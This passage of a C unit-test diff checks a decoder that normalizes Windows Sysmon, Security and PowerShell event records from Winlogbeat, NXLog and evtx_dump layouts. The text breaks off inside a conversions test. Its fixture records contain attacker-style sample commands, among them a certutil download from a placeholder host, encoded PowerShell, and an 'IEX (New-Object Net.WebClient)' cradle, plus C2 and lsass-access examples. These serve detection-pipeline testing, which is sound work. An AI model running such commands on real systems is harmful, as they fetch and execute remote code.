@@ -1,0 +1,581 @@
+/*
+ * test_decode_windows.c — Windows event records (engine/decode/decode_sysmon.c
+ * over engine/core/winevents.h): every mapped (source, EventID) decoded from
+ * the same record in the three layouts (Winlogbeat, flat, evtx_dump) gives
+ * the same event; the conversions; what is refused and why.
+ */
+#include "tests/unit/unit.h"
+#include "engine/decode/decode.h"
+#include "engine/core/winevents.h"
+#include "engine/core/match.h"
+
+#include <stdlib.h>
+
+static pal_arena A;
+static pal_event EV;
+static char ERR[512];
+static int RC;
+
+static int decode_fmt(const char *line, pal_input_format fmt)
+{
+    pal_arena_reset(&A);
+    memset(ERR, 'x', sizeof ERR);   /* the decoder must always terminate err */
+    RC = pal_event_decode(line, strlen(line), fmt, NULL, &A, &EV, ERR, sizeof ERR);
+    return RC;
+}
+static int decode(const char *line) { return decode_fmt(line, PAL_INPUT_AUTO); }
+
+static const pal_value *slot(const pal_event *ev, int i)
+{
+    static const pal_value missing;
+    return ev->rec.slots && i >= 0 ? &ev->rec.slots[i] : &missing;
+}
+
+static const char *val_text(const pal_value *v, char *b, size_t cap)
+{
+    switch (v->tag) {
+    case PV_UNDEF: return "(undef)";
+    case PV_STR: snprintf(b, cap, "%.*s", (int)v->len, v->u.s); return b;
+    case PV_INT: snprintf(b, cap, "%lld", (long long)v->u.i); return b;
+    case PV_BOOL: return v->u.i ? "true" : "false";
+    case PV_IP: pal_ip_format(v->u.ip, (v->flags & PVF_IPV6) != 0, b, cap); return b;
+    case PV_LIST: {
+        size_t o = 0;
+        o += (size_t)snprintf(b + o, cap - o, "[");
+        for (uint32_t i = 0; i < v->len && o + 64 < cap; i++) {
+            char item[256];
+            o += (size_t)snprintf(b + o, cap - o, "%s%s", i ? "," : "", val_text(&v->u.items[i], item, sizeof item));
+        }
+        snprintf(b + o, cap - o, "]");
+        return b;
+    }
+    default: return "(other)";
+    }
+}
+
+static const char *S(const char *name)
+{
+    static char buf[4][1024];
+    static int k;
+    int i = pal_schema_find(EV.rec.schema, name, strlen(name));
+    if (i < 0) { fprintf(stderr, "no field %s in the event schema\n", name); return "(no field)"; }
+    return val_text(slot(&EV, i), buf[k++ & 3], sizeof buf[0]);
+}
+
+/* ---- one record rendered in the three layouts ---- */
+
+typedef struct kv { const char *key, *json; } kv;   /* json: a JSON value as text */
+
+typedef struct record {
+    const char *channel, *provider;
+    int id;
+    kv data[24];
+} record;
+
+static size_t put(char *out, size_t o, size_t cap, const char *fmt, const char *a, const char *b)
+{
+    int n = snprintf(out + o, o < cap ? cap - o : 0, fmt, a, b);
+    return o + (n > 0 ? (size_t)n : 0);
+}
+
+static void data_object(const record *r, char *out, size_t *o, size_t cap, bool top)
+{
+    for (unsigned i = 0; i < 24 && r->data[i].key; i++)
+        *o = put(out, *o, cap, (i || top) ? ",\"%s\":%s" : "\"%s\":%s", r->data[i].key, r->data[i].json);
+}
+
+static void render(const record *r, int layout, char *out, size_t cap)
+{
+    char id[16];
+    snprintf(id, sizeof id, "%d", r->id);
+    size_t o = 0;
+    if (layout == 0) {            /* Winlogbeat */
+        o = put(out, o, cap, "{\"winlog\":{\"channel\":\"%s\",\"provider_name\":\"%s\"", r->channel, r->provider);
+        o = put(out, o, cap, ",\"event_id\":\"%s\",\"computer_name\":\"%s\",\"record_id\":77,\"event_data\":{", id,
+                "WINCTR-HOST01");
+        data_object(r, out, &o, cap, false);
+        o = put(out, o, cap, "}}}%s%s", "", "");
+    } else if (layout == 1) {     /* flat, as NXLog writes it */
+        bool own_type = false;   /* NXLog writes its severity as EventType, unless the record has one */
+        for (unsigned i = 0; i < 24 && r->data[i].key; i++) own_type = own_type || !strcmp(r->data[i].key, "EventType");
+        o = put(out, o, cap, "{\"EventTime\":\"2024-03-12 10:05:00\"%s,\"Channel\":\"%s\",", own_type ? "" :
+                ",\"EventType\":\"INFO\"", r->channel);
+        o = put(out, o, cap, "\"SourceName\":\"%s\"%s", r->provider, "");
+        o = put(out, o, cap, ",\"EventID\":%s,\"Hostname\":\"%s\",\"RecordNumber\":77", id, "WINCTR-HOST01");
+        data_object(r, out, &o, cap, true);
+        o = put(out, o, cap, "}%s%s", "", "");
+    } else {                      /* evtx_dump */
+        o = put(out, o, cap, "{\"Event\":{\"#attributes\":{\"xmlns\":\"%s\"},\"System\":{\"Provider\":{\"#attributes\":"
+                "{\"Name\":\"%s\"}}", "http://schemas.microsoft.com/win/2004/08/events/event", r->provider);
+        o = put(out, o, cap, ",\"EventID\":%s,\"Channel\":\"%s\"", id, r->channel);
+        o = put(out, o, cap, ",\"Computer\":\"%s\",\"EventRecordID\":77%s},\"EventData\":{", "WINCTR-HOST01", "");
+        data_object(r, out, &o, cap, false);
+        o = put(out, o, cap, "}}}%s%s", "", "");
+    }
+}
+
+#define SYSMON "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"
+#define SECURITY "Security", "Microsoft-Windows-Security-Auditing"
+#define S_(x) "\"" x "\""
+
+static const record records[] = {
+    {SYSMON, 1, {{"UtcTime", S_("2024-03-12 10:05:01.250")}, {"ProcessGuid", S_("{a-1}")}, {"ProcessId", S_("5100")},
+                 {"Image", S_("C:\\\\Windows\\\\System32\\\\certutil.exe")}, {"OriginalFileName", S_("CertUtil.exe")},
+                 {"Description", S_("CertUtil.exe")}, {"Company", S_("Microsoft Corporation")},
+                 {"CommandLine", S_("certutil -urlcache -f http://x/a a.exe")}, {"User", S_("CORP\\\\app")},
+                 {"LogonId", S_("0x3e7")}, {"IntegrityLevel", S_("High")},
+                 {"Hashes", S_("MD5=AA11,SHA256=BB22,IMPHASH=CC33")}, {"ParentProcessId", S_("4400")},
+                 {"ParentImage", S_("C:\\\\Windows\\\\System32\\\\cmd.exe")}, {"ParentUser", S_("NT AUTHORITY\\\\SYSTEM")}}},
+    {SYSMON, 3, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}, {"Protocol", S_("tcp")},
+                 {"Initiated", S_("true")}, {"SourceIp", S_("10.0.0.5")}, {"SourcePort", S_("49700")},
+                 {"DestinationIp", S_("203.0.113.9")}, {"DestinationPort", S_("443")},
+                 {"DestinationHostname", S_("c2.example.net")}}},
+    {SYSMON, 5, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}}},
+    {SYSMON, 6, {{"ImageLoaded", S_("C:\\\\Windows\\\\System32\\\\drivers\\\\evil.sys")}, {"Hashes", S_("SHA1=DD44")},
+                 {"Signed", S_("false")}, {"SignatureStatus", S_("Unavailable")}}},
+    {SYSMON, 7, {{"ProcessId", S_("6120")}, {"Image", S_("C:\\\\app\\\\a.exe")},
+                 {"ImageLoaded", S_("C:\\\\Windows\\\\System32\\\\amsi.dll")}, {"OriginalFileName", S_("AMSI.DLL")},
+                 {"Signed", S_("true")}, {"Signature", S_("Microsoft Windows")}, {"SignatureStatus", S_("Valid")}}},
+    {SYSMON, 8, {{"SourceProcessGuid", S_("{s-1}")}, {"SourceProcessId", S_("7400")},
+                 {"SourceImage", S_("C:\\\\app\\\\a.exe")}, {"TargetProcessId", S_("632")},
+                 {"TargetImage", S_("C:\\\\Windows\\\\System32\\\\lsass.exe")}, {"StartAddress", S_("0x7FF6A0001000")},
+                 {"StartModule", S_("-")}, {"StartFunction", S_("-")}, {"SourceUser", S_("CORP\\\\app")}}},
+    {SYSMON, 10, {{"SourceProcessGUID", S_("{s-2}")}, {"SourceProcessId", S_("7400")}, {"SourceThreadId", S_("7404")},
+                  {"SourceImage", S_("C:\\\\app\\\\a.exe")}, {"TargetProcessId", S_("632")},
+                  {"TargetImage", S_("C:\\\\Windows\\\\system32\\\\lsass.exe")}, {"GrantedAccess", S_("0x1010")},
+                  {"CallTrace", S_("C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d204")}}},
+    {SYSMON, 11, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")},
+                  {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\b.ps1")}}},
+    {SYSMON, 12, {{"EventType", S_("CreateKey")}, {"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")},
+                  {"TargetObject", S_("HKU\\\\S-1-5-21-1\\\\Software\\\\Classes\\\\ms-settings\\\\shell")}}},
+    {SYSMON, 13, {{"EventType", S_("SetValue")}, {"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")},
+                  {"TargetObject", S_("HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\Start")},
+                  {"Details", S_("DWORD (0x00000002)")}}},
+    {SYSMON, 14, {{"EventType", S_("RenameKey")}, {"Image", S_("C:\\\\app\\\\a.exe")},
+                  {"TargetObject", S_("HKLM\\\\SOFTWARE\\\\a")}, {"NewName", S_("HKLM\\\\SOFTWARE\\\\b")}}},
+    {SYSMON, 15, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\x.exe:Zone.Identifier")},
+                  {"Hash", S_("SHA256=EE55")}, {"Contents", S_("[ZoneTransfer]  ZoneId=3")}}},
+    {SYSMON, 17, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"PipeName", S_("\\\\PSEXESVC")}}},
+    {SYSMON, 18, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"PipeName", S_("\\\\lsarpc")}}},
+    {SYSMON, 19, {{"EventType", S_("WmiFilterEvent")}, {"Operation", S_("Created")},
+                  {"EventNamespace", S_("root\\\\cimv2")}, {"Name", S_("f")}, {"Query", S_("SELECT * FROM x")},
+                  {"User", S_("CORP\\\\admin")}}},
+    {SYSMON, 20, {{"EventType", S_("WmiConsumerEvent")}, {"Operation", S_("Created")}, {"Name", S_("c")},
+                  {"Type", S_("Command Line")}, {"Destination", S_("powershell -enc AAAA")}}},
+    {SYSMON, 21, {{"EventType", S_("WmiBindingEvent")}, {"Operation", S_("Created")}, {"Consumer", S_("c")},
+                  {"Filter", S_("f")}}},
+    {SYSMON, 22, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}, {"QueryName", S_("pool.example.org")},
+                  {"QueryStatus", S_("0")}, {"QueryResults", S_("type:  5 x.example.org;::ffff:203.0.113.20;")}}},
+    {SYSMON, 23, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\b.ps1")},
+                  {"Hashes", S_("MD5=FF66")}}},
+    {SYSMON, 24, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\Windows\\\\System32\\\\rdpclip.exe")}}},
+    {SYSMON, 25, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}, {"Type", S_("Image is replaced")}}},
+    {SYSMON, 26, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\b.ps1")}}},
+    {SECURITY, 4688, {{"SubjectUserSid", S_("S-1-5-18")}, {"SubjectUserName", S_("HOST01$")},
+                      {"SubjectDomainName", S_("CORP")}, {"SubjectLogonId", S_("0x3e7")},
+                      {"NewProcessId", S_("0x17e8")}, {"NewProcessName", S_("C:\\\\Windows\\\\System32\\\\whoami.exe")},
+                      {"TokenElevationType", S_("%%1936")}, {"ProcessId", S_("0x1130")},
+                      {"CommandLine", S_("whoami /all")}, {"TargetUserName", S_("-")},
+                      {"ParentProcessName", S_("C:\\\\Windows\\\\System32\\\\cmd.exe")},
+                      {"MandatoryLabel", S_("S-1-16-16384")}}},
+    {SECURITY, 4689, {{"SubjectUserName", S_("HOST01$")}, {"ProcessId", S_("0x17e8")},
+                      {"ProcessName", S_("C:\\\\Windows\\\\System32\\\\whoami.exe")}}},
+    {SECURITY, 4624, {{"TargetUserSid", S_("S-1-5-21-1-1001")}, {"TargetUserName", S_("svc-app")},
+                      {"TargetDomainName", S_("CORP")}, {"TargetLogonId", S_("0x8d2a1")}, {"LogonType", S_("3")},
+                      {"LogonProcessName", S_("NtLmSsp ")}, {"AuthenticationPackageName", S_("NTLM")},
+                      {"WorkstationName", S_("WS7")}, {"IpAddress", S_("172.24.96.1")}, {"IpPort", S_("51234")},
+                      {"ProcessId", S_("0x0")}, {"ProcessName", S_("-")}}},
+    {SECURITY, 4625, {{"TargetUserName", S_("administrator")}, {"Status", S_("0xc000006d")},
+                      {"SubStatus", S_("0xc000006a")}, {"LogonType", S_("10")}, {"IpAddress", S_("203.0.113.66")},
+                      {"FailureReason", S_("%%2313")}}},
+    {SECURITY, 4648, {{"SubjectUserName", S_("app")}, {"SubjectLogonId", S_("0x5e3")},
+                      {"TargetUserName", S_("admin")}, {"TargetDomainName", S_("CORP")},
+                      {"TargetServerName", S_("dc01.corp.example.com")}, {"ProcessId", S_("0x1d4")},
+                      {"ProcessName", S_("C:\\\\Windows\\\\System32\\\\runas.exe")}, {"IpAddress", S_("::1")}}},
+    {SECURITY, 5156, {{"ProcessID", S_("4")}, {"Application", S_("System")}, {"Direction", S_("%%14593")},
+                      {"SourceAddress", S_("10.0.0.5")}, {"SourcePort", S_("445")}, {"DestAddress", S_("10.0.0.9")},
+                      {"DestPort", S_("50123")}, {"Protocol", S_("6")}}},
+    {"System", "Service Control Manager", 7045,
+     {{"ServiceName", S_("updsvc")}, {"ImagePath", S_("%COMSPEC% /c whoami")}, {"ServiceType", S_("user mode service")},
+      {"StartType", S_("demand start")}, {"AccountName", S_("LocalSystem")}}},
+    {"Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104,
+     {{"MessageNumber", S_("1")}, {"MessageTotal", S_("1")}, {"ScriptBlockText", S_("IEX (New-Object Net.WebClient)")},
+      {"ScriptBlockId", S_("8f1c-aaaa")}, {"Path", S_("C:\\\\Users\\\\Public\\\\x.ps1")}}},
+};
+#define NRECORDS (sizeof records / sizeof records[0])
+
+/* Every record of the table has a test record, and each decodes into the
+   same event (every field equal) from the three layouts. */
+static void test_three_layouts(void)
+{
+    for (size_t i = 0; i < pal_win_nevents; i++) {
+        bool have = false;
+        for (size_t j = 0; j < NRECORDS; j++)
+            have = have || (records[j].id == pal_win_events[i].id);
+        if (!have) fprintf(stderr, "no test record for EventID %u\n", pal_win_events[i].id);
+        CHECK(have);
+    }
+    static char line[3][8192];
+    static pal_arena arenas[3];
+    static pal_event evs[3];
+    for (int l = 0; l < 3; l++) pal_arena_init(&arenas[l], 0);
+    const pal_schema *s = pal_schema_get(PS_EVENT);
+    for (size_t j = 0; j < NRECORDS; j++) {
+        const record *r = &records[j];
+        for (int l = 0; l < 3; l++) {
+            render(r, l, line[l], sizeof line[l]);
+            pal_arena_reset(&arenas[l]);
+            char err[512];
+            int rc = pal_event_decode(line[l], strlen(line[l]), PAL_INPUT_AUTO, NULL, &arenas[l], &evs[l], err,
+                                      sizeof err);
+            if (rc != 0 || err[0]) fprintf(stderr, "EventID %d layout %d: rc %d, %s\n  %s\n", r->id, l, rc, err, line[l]);
+            CHECK_INT(rc, 0);
+            CHECK_STR(err, "");
+            const pal_win_event *row = pal_win_event_find(pal_win_source_of_id(r->id), r->id);
+            CHECK_INT(evs[l].kind, row ? row->kind : 0);
+            CHECK(evs[l].windows);
+        }
+        for (unsigned f = 0; f < s->nfields; f++) {
+            char a[1024], b[1024], c[1024];
+            const char *ta = val_text(slot(&evs[0], (int)f), a, sizeof a);
+            const char *tb = val_text(slot(&evs[1], (int)f), b, sizeof b);
+            const char *tc = val_text(slot(&evs[2], (int)f), c, sizeof c);
+            if (strcmp(ta, tb) || strcmp(ta, tc)) {
+                fprintf(stderr, "EventID %d, %s: Winlogbeat %s, flat %s, evtx %s\n", r->id, s->fields[f].name, ta, tb,
+                        tc);
+                CHECK(0);
+            }
+        }
+    }
+    for (int l = 0; l < 3; l++) pal_arena_free(&arenas[l]);
+}
+
+static void decode_record(int id, int layout)
+{
+    static char line[8192];
+    for (size_t j = 0; j < NRECORDS; j++)
+        if (records[j].id == id) { render(&records[j], layout, line, sizeof line); break; }
+    decode(line);
+}
+
+/* The values each record gives (read from the evtx_dump layout; the
+   layouts agree, above). */
+static void test_mapping(void)
+{
+    decode_record(1, 2);
+    CHECK_STR(S("event.code"), "1");
+    CHECK_STR(S("event.action"), "process-creation");
+    CHECK_STR(S("event.module"), "sysmon");
+    CHECK_STR(S("winlog.channel"), "Microsoft-Windows-Sysmon/Operational");
+    CHECK_STR(S("event.provider"), "Microsoft-Windows-Sysmon");
+    CHECK_STR(S("winlog.event_id"), "1");
+    CHECK_STR(S("winlog.record_id"), "77");
+    CHECK_STR(S("host.name"), "WINCTR-HOST01");
+    CHECK_STR(S("timestamp"), "2024-03-12T10:05:01.250Z");
+    CHECK_STR(S("process.name"), "certutil.exe");
+    CHECK_STR(S("process.entity_id"), "{a-1}");
+    CHECK_STR(S("process.pe.original_file_name"), "CertUtil.exe");
+    CHECK_STR(S("process.pe.company"), "Microsoft Corporation");
+    CHECK_STR(S("process.hash.md5"), "aa11");
+    CHECK_STR(S("process.hash.sha256"), "bb22");
+    CHECK_STR(S("process.pe.imphash"), "cc33");
+    CHECK_STR(S("user.name"), "app");
+    CHECK_STR(S("user.domain"), "CORP");
+    CHECK_STR(S("winlog.logon.id"), "0x3e7");
+    CHECK_STR(S("winlog.event_data.IntegrityLevel"), "High");
+    CHECK_STR(S("winlog.event_data.ParentUser"), "NT AUTHORITY\\SYSTEM");
+    CHECK_STR(S("process.parent.name"), "cmd.exe");
+    CHECK_STR(S("event.type"), "[start]");
+
+    decode_record(3, 2);
+    CHECK_STR(S("network.direction"), "outbound");
+    CHECK_STR(S("destination.domain"), "c2.example.net");
+    CHECK_STR(S("destination.port"), "443");
+    decode_record(5, 2);
+    CHECK_STR(S("event.type"), "[end]");
+    CHECK_STR(S("event.action"), "process-termination");
+
+    decode_record(6, 2);
+    CHECK_INT(EV.kind, PK_LIBRARY);
+    CHECK_STR(S("event.category"), "[driver]");
+    CHECK_STR(S("dll.name"), "evil.sys");
+    CHECK_STR(S("dll.hash.sha1"), "dd44");
+    CHECK_STR(S("dll.code_signature.signed"), "false");
+    CHECK_STR(S("dll.code_signature.status"), "Unavailable");
+    decode_record(7, 2);
+    CHECK_STR(S("event.category"), "[library]");
+    CHECK_STR(S("dll.path"), "C:\\Windows\\System32\\amsi.dll");
+    CHECK_STR(S("dll.pe.original_file_name"), "AMSI.DLL");
+    CHECK_STR(S("dll.code_signature.subject_name"), "Microsoft Windows");
+    CHECK_STR(S("process.name"), "a.exe");
+
+    decode_record(8, 2);
+    CHECK_STR(S("process.executable"), "C:\\app\\a.exe");
+    CHECK_STR(S("process.entity_id"), "{s-1}");
+    CHECK_STR(S("winlog.event_data.TargetProcessId"), "632");
+    CHECK_STR(S("winlog.event_data.StartAddress"), "0x7FF6A0001000");
+    CHECK_STR(S("winlog.event_data.StartModule"), "(undef)");     /* "-" */
+    CHECK_STR(S("user.name"), "app");
+    CHECK_STR(S("winlog.event_data.SourceUser"), "CORP\\app");
+    decode_record(10, 2);
+    CHECK_STR(S("process.thread.id"), "7404");
+    CHECK_STR(S("winlog.event_data.GrantedAccess"), "0x1010");
+    CHECK_STR(S("winlog.event_data.TargetImage"), "C:\\Windows\\system32\\lsass.exe");
+    CHECK_STR(S("event.type"), "[access]");
+
+    decode_record(12, 2);
+    CHECK_INT(EV.kind, PK_REGISTRY);
+    CHECK_STR(S("event.action"), "creation");
+    CHECK_STR(S("registry.hive"), "HKU");
+    CHECK_STR(S("registry.key"), "S-1-5-21-1\\Software\\Classes\\ms-settings\\shell");
+    CHECK_STR(S("registry.value"), "shell");
+    CHECK_STR(S("winlog.event_data.EventType"), "CreateKey");
+    decode_record(13, 2);
+    CHECK_STR(S("event.action"), "modification");
+    CHECK_STR(S("registry.data.strings"), "[2]");
+    CHECK_STR(S("registry.data.type"), "REG_DWORD");
+    CHECK_STR(S("winlog.event_data.Details"), "DWORD (0x00000002)");
+    decode_record(14, 2);
+    CHECK_STR(S("event.action"), "rename");
+    CHECK_STR(S("winlog.event_data.NewName"), "HKLM\\SOFTWARE\\b");
+
+    decode_record(15, 2);
+    CHECK_STR(S("file.hash.sha256"), "ee55");
+    CHECK_STR(S("file.name"), "x.exe:Zone.Identifier");
+    CHECK_STR(S("winlog.event_data.Contents"), "[ZoneTransfer]  ZoneId=3");
+    decode_record(17, 2);
+    CHECK_INT(EV.kind, PK_FILE);
+    CHECK_STR(S("file.name"), "\\PSEXESVC");
+    CHECK_STR(S("file.path"), "(undef)");
+    CHECK_STR(S("event.action"), "pipe-creation");
+    decode_record(20, 2);
+    CHECK_STR(S("winlog.event_data.Destination"), "powershell -enc AAAA");
+    CHECK_STR(S("process.executable"), "(undef)");   /* not the consumer's command */
+    decode_record(19, 2);
+    CHECK_STR(S("user.name"), "admin");
+    CHECK_STR(S("winlog.event_data.EventNamespace"), "root\\cimv2");
+    decode_record(22, 2);
+    CHECK_INT(EV.kind, PK_DNS);
+    CHECK_STR(S("dns.resolved_ip"), "[203.0.113.20]");
+    CHECK_STR(S("dns.response_code"), "NOERROR");
+    decode_record(23, 2);
+    CHECK_STR(S("file.hash.md5"), "ff66");
+    CHECK_STR(S("process.hash.md5"), "(undef)");   /* the deleted file's hash, not the process's */
+    CHECK_STR(S("event.action"), "deletion");
+    decode_record(25, 2);
+    CHECK_STR(S("winlog.event_data.Type"), "Image is replaced");
+
+    decode_record(4688, 2);
+    CHECK_INT(EV.kind, PK_PROCESS);
+    CHECK_STR(S("process.pid"), "6120");          /* 0x17e8 */
+    CHECK_STR(S("process.parent.pid"), "4400");   /* 0x1130 */
+    CHECK_STR(S("process.name"), "whoami.exe");
+    CHECK_STR(S("process.parent.name"), "cmd.exe");
+    CHECK_STR(S("user.name"), "HOST01$");
+    CHECK_STR(S("user.domain"), "CORP");
+    CHECK_STR(S("user.id"), "S-1-5-18");
+    CHECK_STR(S("winlog.logon.id"), "0x3e7");
+    CHECK_STR(S("winlog.event_data.TargetUserName"), "(undef)");   /* "-" */
+    CHECK_STR(S("winlog.event_data.MandatoryLabel"), "S-1-16-16384");
+    CHECK_STR(S("event.module"), "security");
+    CHECK_STR(S("event.action"), "created-process");
+    decode_record(4689, 2);
+    CHECK_STR(S("event.type"), "[end]");
+    CHECK_STR(S("process.pid"), "6120");
+    decode_record(4624, 2);
+    CHECK_INT(EV.kind, PK_AUTH);
+    CHECK_STR(S("user.name"), "svc-app");
+    CHECK_STR(S("user.id"), "S-1-5-21-1-1001");
+    CHECK_STR(S("winlog.logon.id"), "0x8d2a1");
+    CHECK_STR(S("winlog.event_data.LogonType"), "3");
+    CHECK_STR(S("source.ip"), "172.24.96.1");
+    CHECK_STR(S("source.port"), "51234");
+    CHECK_STR(S("source.domain"), "WS7");
+    CHECK_STR(S("process.pid"), "0");
+    CHECK_STR(S("process.executable"), "(undef)");
+    CHECK_STR(S("event.outcome"), "success");
+    CHECK_STR(S("event.category"), "[authentication]");
+    decode_record(4625, 2);
+    CHECK_STR(S("event.outcome"), "failure");
+    CHECK_STR(S("winlog.event_data.Status"), "0xc000006d");
+    CHECK_STR(S("winlog.event_data.LogonType"), "10");
+    decode_record(4648, 2);
+    CHECK_STR(S("user.name"), "admin");
+    CHECK_STR(S("winlog.logon.id"), "0x5e3");
+    CHECK_STR(S("winlog.event_data.SubjectUserName"), "app");
+    CHECK_STR(S("winlog.event_data.TargetServerName"), "dc01.corp.example.com");
+    CHECK_STR(S("source.ip"), "::1");
+    CHECK_STR(S("process.pid"), "468");
+    decode_record(5156, 2);
+    CHECK_INT(EV.kind, PK_NETWORK);
+    CHECK_STR(S("network.direction"), "outbound");
+    CHECK_STR(S("network.transport"), "tcp");
+    CHECK_STR(S("destination.ip"), "10.0.0.9");
+    CHECK_STR(S("destination.port"), "50123");
+    CHECK_STR(S("process.pid"), "4");
+    CHECK_STR(S("process.name"), "System");
+    decode_record(7045, 2);
+    CHECK_INT(EV.kind, PK_CONFIG);
+    CHECK_STR(S("service.name"), "updsvc");
+    CHECK_STR(S("service.type"), "user mode service");
+    CHECK_STR(S("winlog.event_data.ImagePath"), "%COMSPEC% /c whoami");
+    CHECK_STR(S("event.module"), "system");
+    decode_record(4104, 2);
+    CHECK_INT(EV.kind, PK_PROCESS);
+    CHECK_STR(S("powershell.file.script_block_text"), "IEX (New-Object Net.WebClient)");
+    CHECK_STR(S("powershell.sequence"), "1");
+    CHECK_STR(S("winlog.event_data.Path"), "C:\\Users\\Public\\x.ps1");
+    CHECK_STR(S("event.type"), "[info]");
+}
+
+/* Values and conversions the layouts write differently. */
+static void test_conversions(void)
+{
+    /* evtx_dump's typed values and an EventID with qualifiers */
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Service Control Manager\"}},"
+                     "\"EventID\":{\"#attributes\":{\"Qualifiers\":16384},\"#text\":7045},\"Channel\":\"System\","
+                     "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2024-03-12T10:07:00.000000Z\"}},"
+                     "\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},"
+                     "\"EventData\":{\"ServiceName\":\"s\",\"ServiceType\":16,\"ImagePath\":\"x.exe\"}}}"), 0);
+    CHECK_STR(ERR, "");
+    CHECK_STR(S("service.type"), "16");   /* a number in a text field is its text */
+    CHECK_STR(S("timestamp"), "2024-03-12T10:07:00.000000Z");
+    CHECK_STR(S("user.id"), "S-1-5-18");
+    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":3,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"},"
+                     "\"EventData\":{\"Image\":\"C:\\\\a.exe\",\"Initiated\":true,\"DestinationPort\":443,"
+                     "\"DestinationIp\":\"1.2.3.4\",\"ProcessId\":12}}}"), 0);
+    CHECK_STR(S("network.direction"), "outbound");
+    CHECK_STR(S("destination.port"), "443");
+    CHECK_STR(S("process.pid"), "12");
+    /* QWORD, binary and string registry data */
+    CHECK_INT(decode("{\"EventID\":13,\"TargetObject\":\"HKLM\\\\x\\\\v\",\"Details\":\"QWORD (0x00000001-0x00000002)\"}"), 0);
+    CHECK_STR(S("registry.data.strings"), "[4294967298]");
+    CHECK_STR(S("registry.data.type"), "REG_QWORD");
+    CHECK_INT(decode("{\"EventID\":13,\"TargetObject\":\"HKLM\\\\x\\\\v\",\"Details\":\"Binary Data\"}"), 0);
+    CHECK_STR(S("registry.data.type"), "REG_BINARY");
+    CHECK_INT(decode("{\"EventID\":13,\"TargetObject\":\"\\\\REGISTRY\\\\MACHINE\\\\x\",\"Details\":\"DWORD (0x1)\"}"), 0);
+    CHECK_STR(S("registry.data.strings"), "[DWORD (0x1)]");   /* not Sysmon's 8-digit form: as written */
+    CHECK_STR(S("registry.data.type"), "REG_SZ");
+    CHECK_STR(S("registry.hive"), "(undef)");                  /* not a hive's name */
+    CHECK_STR(S("registry.value"), "x");
+    CHECK_STR(S("event.action"), "modification");              /* no EventType: the table's */
+    /* Security pids: hex, decimal; a bad one is reported and undefined */
+    CHECK_INT(decode("{\"EventID\":4689,\"Channel\":\"Security\",\"ProcessId\":\"1234\",\"ProcessName\":\"C:\\\\a.exe\"}"), 0);
+    CHECK_STR(S("process.pid"), "1234");
+    CHECK_INT(decode("{\"EventID\":4689,\"Channel\":\"Security\",\"ProcessId\":\"0xZZ\",\"ProcessName\":\"C:\\\\a.exe\"}"), 0);
+    CHECK_STR(S("process.pid"), "(undef)");
+    CHECK_STR(ERR, "ProcessId: expected a number, got a string");
+    /* WFP: rendered direction names, other protocols */
+    CHECK_INT(decode("{\"EventID\":5156,\"Channel\":\"Security\",\"Direction\":\"Inbound\",\"Protocol\":\"1\","
+                     "\"Application\":\"\\\\device\\\\harddiskvolume2\\\\windows\\\\system32\\\\svchost.exe\"}"), 0);
+    CHECK_STR(S("network.direction"), "inbound");
+    CHECK_STR(S("network.transport"), "icmp");
+    CHECK_STR(S("process.name"), "svchost.exe");
+    CHECK_INT(decode("{\"EventID\":5156,\"Channel\":\"Security\",\"Protocol\":47,\"DestAddress\":\"10.0.0.1\"}"), 0);
+    CHECK_STR(S("network.transport"), "47");
+    /* a user without a domain */
+    CHECK_INT(decode("{\"EventID\":1,\"Image\":\"C:\\\\a.exe\",\"User\":\"app\"}"), 0);
+    CHECK_STR(S("user.name"), "app");
+    CHECK_STR(S("user.domain"), "(undef)");
+    /* NXLog's severity is not a registry EventType; a Sysmon one is */
+    CHECK_INT(decode("{\"EventID\":12,\"EventType\":\"INFO\",\"TargetObject\":\"HKLM\\\\x\"}"), 0);
+    CHECK_STR(S("winlog.event_data.EventType"), "(undef)");
+    CHECK_STR(S("event.action"), "modification");
+    CHECK_INT(decode("{\"EventID\":12,\"EventType\":\"DeleteValue\",\"TargetObject\":\"HKLM\\\\x\"}"), 0);
+    CHECK_STR(S("event.action"), "deletion");
+    /* the shipper's ECS fields win, its event.action does not */
+    CHECK_INT(decode("{\"event\":{\"action\":\"RegistryEvent (Value Set)\",\"category\":[\"registry\"]},"
+                     "\"registry\":{\"path\":\"HKLM\\\\from-ecs\"},\"winlog\":{\"channel\":"
+                     "\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":13,\"event_data\":{\"TargetObject\":"
+                     "\"HKLM\\\\raw\",\"EventType\":\"SetValue\"}}}"), 0);
+    CHECK_STR(S("registry.path"), "HKLM\\from-ecs");
+    CHECK_STR(S("event.action"), "modification");
+    /* Winlogbeat's user id */
+    CHECK_INT(decode("{\"winlog\":{\"channel\":\"Microsoft-Windows-PowerShell/Operational\",\"event_id\":4104,"
+                     "\"user\":{\"identifier\":\"S-1-5-21-9\"},\"event_data\":{\"ScriptBlockText\":\"x\"}}}"), 0);
+    CHECK_STR(S("user.id"), "S-1-5-21-9");
+    CHECK_STR(S("event.module"), "powershell");
